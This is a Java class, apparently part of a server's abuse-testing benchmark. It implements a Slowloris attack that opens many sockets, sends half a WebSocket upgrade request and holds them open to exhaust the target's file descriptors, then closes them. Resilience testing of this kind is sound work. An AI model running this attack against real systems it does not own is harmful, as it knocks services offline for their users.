package stream.terminal.lastmile.bench.abuse;

import io.vertx.core.Future;
import io.vertx.core.Vertx;
import io.vertx.core.net.NetClient;
import io.vertx.core.net.NetSocket;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;

/**
 * Many sockets that each send the start of a WebSocket upgrade and then nothing: without a handshake timeout
 * and accounting at accept, each holds a file descriptor of the node for good.
 */
final class Slowloris implements Attack {
  private static final String HALF_REQUEST = "GET /ws HTTP/1.1\r\nHost: x\r\n";

  @Override
  public String name() {
    return "slowloris";
  }

  @Override
  public Future<Outcome> run(Vertx vertx, Target target, Sizes sizes, long deadlineNanos) {
    NetClient client = Bounded.client(vertx, SOURCE);
    List<NetSocket> open = new ArrayList<>();
    Bounded.Reasons failed = new Bounded.Reasons();
    Bounded.Reasons ended = new Bounded.Reasons();
    return Bounded.each(sizes.slowlorisSockets(), 100, deadlineNanos, i ->
            client.connect(target.edgePort(), target.host())
                .onSuccess(socket -> {
                  open.add(socket);
                  socket.handler(answer -> ended.add("answered " + answer.getString(0, Math.min(12, answer.length()))));
                  socket.closeHandler(v -> {
                    if (open.remove(socket)) {
                      ended.add("closed by the node");
                    }
                  });
                  socket.write(HALF_REQUEST);
                })
                .onFailure(e -> failed.add(e.getMessage())))
        .compose(started -> {
          long holdMillis = Math.max(1, Math.min(sizes.slowlorisSeconds() * 1000L, (deadlineNanos - System.nanoTime()) / 1_000_000));
          return vertx.timer(holdMillis).map(v -> new Outcome(started, String.format(Locale.ROOT,
              "%,d half requests (%,d failed to connect: %s); after %d ms %,d still open; ended: %s",
              started, failed.total(), failed, holdMillis, open.size(), ended)));
        })
        .eventually(() -> {
          List<NetSocket> left = new ArrayList<>(open);
          open.clear();
          return Future.join(left.stream().map(NetSocket::close).toList());
        })
        .eventually(client::close);
  }
}
